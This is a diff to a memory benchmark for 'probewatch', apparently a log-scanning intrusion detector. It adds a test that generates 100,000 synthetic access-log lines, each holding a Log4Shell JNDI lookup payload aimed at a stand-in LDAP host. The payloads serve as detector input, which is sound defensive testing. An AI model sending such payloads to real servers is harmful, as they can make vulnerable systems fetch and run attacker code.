@@ -7,10 +7,12 @@
  * - 60,000 IPv6 /64 scanners, three secret-file probes each, all active within half an hour,
  * - 40,000 lines whose path, referer and user agent are each 8 KB and distinct: 4,000 sources
  *   with ten missing paths each within two minutes, so every source keeps state and samples.
+ * - 100,000 sources alerted at once (one Log4Shell request each), the report written as JSON and
+ *   as text: what a report of that many alerts costs, with a goal of 1,000 MB (a 1 GB machine).
  * The adversarial scenarios have a goal of 300 MB. Inputs are written to a temporary directory
  * (removed afterwards unless --keep; a day is reused from bench/out/day-N.log when there). Options:
  * --quick (a tenth of every size), --day N,M and --ordinary N,M (line counts; 0 skips), --v6 N,
- * --long N, --field-kb N, --tsx (run the CLI from source instead of the bundle), --no-build (use
+ * --long N, --alerted N, --field-kb N, --tsx (run the CLI from source instead of the bundle), --no-build (use
  * dist/probewatch.mjs as it is), --keep, --node-flags="FLAGS" (given to each CLI's node, e.g.
  * "--max-semi-space-size=8" to see what the young generation costs).
  */
@@ -27,6 +29,8 @@ import { generate, rng } from './generate.js';
 /** Peak RSS goals: ordinary and realistic traffic, and inputs built to cost memory. */
 const GOAL_MB = 200;
 const ADVERSARIAL_GOAL_MB = 300;
+/** A report of 100,000 alerts, each with its evidence, stays within a 1 GB machine. */
+const REPORT_GOAL_MB = 1000;
 
 const { values } = parseArgs({
   options: {
@@ -35,6 +39,7 @@ const { values } = parseArgs({
     ordinary: { type: 'string' },
     v6: { type: 'string' },
     long: { type: 'string' },
+    alerted: { type: 'string' },
     'field-kb': { type: 'string', default: '8' },
     tsx: { type: 'boolean', default: false },
     'no-build': { type: 'boolean', default: false },
@@ -52,6 +57,7 @@ const days = counts(values.day);
 const ordinary = counts(values.ordinary);
 const v6Sources = Number(values.v6 ?? 60_000 * scale);
 const longLines = Number(values.long ?? 40_000 * scale);
+const alertedSources = Number(values.alerted ?? 100_000 * scale);
 const fieldBytes = Number(values['field-kb']) * 1024;
 
 const dir = mkdtempSync(join(tmpdir(), 'probewatch-memory-'));
@@ -140,14 +146,30 @@ interface Result {
   goalMb: number;
 }
 
-/** Runs `probewatch scan --json` on one file in a child; returns its peak RSS and alert count. */
-async function scan(name: string, path: string, lines: number, goalMb = ADVERSARIAL_GOAL_MB): Promise<Result> {
+/** One line from each of `n` addresses, each a Log4Shell probe: `n` sources alerted at once. */
+function* log4ShellSources(n: number): Generator<string> {
+  const t = clf(Date.UTC(2024, 0, 1, 10, 0, 0));
+  for (let i = 0; i < n; i++) {
+    const ip = `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;
+    yield `${ip} - - [${t}] "GET /?q=\${jndi:ldap://203.0.113.5/a${i}} HTTP/1.1" 404 10 "-" "curl/8.4"`;
+  }
+}
+
+/**
+ * Runs `probewatch scan --json` (or the text report, `text`) on one file in a child; returns its
+ * peak RSS and alert count.
+ */
+async function scan(name: string, path: string, lines: number, goalMb = ADVERSARIAL_GOAL_MB, textReport = false): Promise<Result> {
   const cli = values.tsx ? ['--import', 'tsx', '--no-warnings', 'lambdas/cli/bin.ts'] : ['dist/probewatch.mjs'];
   const started = process.hrtime.bigint();
   const nodeFlags = (values['node-flags'] ?? '').split(' ').filter((f) => f !== '');
-  const child = spawn(process.execPath, [...nodeFlags, '--import', './bench/rss-hook.mjs', ...cli, 'scan', '--json', '--no-progress', path], {
-    stdio: ['ignore', 'pipe', 'pipe'],
-  });
+  const child = spawn(
+    process.execPath,
+    [...nodeFlags, '--import', './bench/rss-hook.mjs', ...cli, 'scan', ...(textReport ? [] : ['--json']), '--no-progress', path],
+    {
+      stdio: ['ignore', 'pipe', 'pipe'],
+    },
+  );
   // The report can be large: count alerts as it streams by instead of keeping it.
   let alerts = 0;
   let listed = 0;
@@ -155,6 +177,13 @@ async function scan(name: string, path: string, lines: number, goalMb = ADVERSAR
   let tail = '';
   child.stdout.setEncoding('utf8');
   child.stdout.on('data', (chunk: string) => {
+    if (textReport) {
+      // The text report: its header counts the alerts and the quiet sources.
+      const h = /(\d+) alerted, (\d+) suspicious, ([\d,]+) quiet/.exec(tail + chunk);
+      if (h && !alerts) [alerts, listed, clean] = [Number(h[1]), Number(h[2]), Number(String(h[3]).replace(/,/g, ''))];
+      tail = (tail + chunk).slice(-200);
+      return;
+    }
     const text = tail + chunk;
     alerts += text.split('"triggeredAt":').length - 1;
     listed += text.split('"verdict":').length - 1;
@@ -182,7 +211,7 @@ async function scan(name: string, path: string, lines: number, goalMb = ADVERSAR
     rssMb: rss ? Number(rss[1]) / 1024 : Number.NaN,
     exit,
     alerts,
-    sources: listed + clean,
+    sources: textReport ? alerts + listed + clean : listed + clean,
     goalMb,
   };
 }
@@ -232,6 +261,13 @@ try {
     const path = join(dir, 'long-fields.log');
     await writeLines(path, longFields(longLines, fieldBytes));
     console.log(row(await scan(`${fmt(longLines)} lines, ${values['field-kb']} KB path+referer+UA each`, path, longLines)));
+    if (!values.keep) rmSync(path);
+  }
+  if (alertedSources > 0) {
+    const path = join(dir, 'alerted.log');
+    await writeLines(path, log4ShellSources(alertedSources));
+    console.log(row(await scan(`${fmt(alertedSources)} sources alerted, JSON report`, path, alertedSources, REPORT_GOAL_MB)));
+    console.log(row(await scan(`${fmt(alertedSources)} sources alerted, text report`, path, alertedSources, REPORT_GOAL_MB, true)));
     if (!values.keep) rmSync(path);
   }
 } finally {
